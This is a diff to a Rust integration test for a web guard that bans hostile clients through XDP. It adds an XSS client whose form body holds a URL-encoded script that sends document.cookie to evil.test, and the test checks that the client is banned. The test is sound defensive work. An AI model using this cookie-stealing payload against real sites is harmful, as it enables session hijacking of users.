@@ -93,6 +93,7 @@ fn hostile_clients_are_banned_into_xdp_and_benign_ones_are_not() -> anyhow::Resu
     let scanner = link.far_v4;
     let prober = link.add_far_v4(30)?;
     let sqli = link.add_far_v4(31)?;
+    let xss = link.add_far_v4(32)?;
     let reader = link.add_far_v4(40)?;
 
     // A benign reader pages through /items slowly, all along.
@@ -151,8 +152,20 @@ fn hostile_clients_are_banned_into_xdp_and_benign_ones_are_not() -> anyhow::Resu
         .collect();
     let (_, t) = attack(&link, &d, sqli, dst, attacks, "sqlmap/1.7");
     report.push(("sqli in query", t));
+    // XSS in a form body.
+    let body = "name=x&comment=%3Cscript%3Edocument.location%3D%27http%3A%2F%2Fevil.test%2F%3Fc%3D%27%2Bdocument.cookie%3C%2Fscript%3E";
+    let posts = (0..10)
+        .map(|_| {
+            format!(
+                "POST /comments HTTP/1.1\r\nHost: guard.test\r\nUser-Agent: Mozilla/5.0\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: {}\r\n\r\n{body}",
+                body.len()
+            )
+        })
+        .collect();
+    let (_, t) = attack_raw(&link, &d, xss, dst, posts, Duration::ZERO);
+    report.push(("xss in body", t));
 
-    for ((name, t), addr) in report.iter().zip([prober, scanner, sqli]) {
+    for ((name, t), addr) in report.iter().zip([prober, scanner, sqli, xss]) {
         let reason = banned(&d, addr)
             .map(|b| b["reason"].to_string())
             .unwrap_or_default();
@@ -166,7 +179,7 @@ fn hostile_clients_are_banned_into_xdp_and_benign_ones_are_not() -> anyhow::Resu
     }
     assert!(answered < 300, "the scanner was cut off before finishing");
     // Banned means dropped by XDP: new connections fail, and the ban counters move.
-    for addr in [scanner, prober, sqli] {
+    for addr in [scanner, prober, sqli, xss] {
         assert!(
             !tcp_ok(&link.far, Some(addr), dst, Duration::from_millis(300)),
             "{addr} still connects"
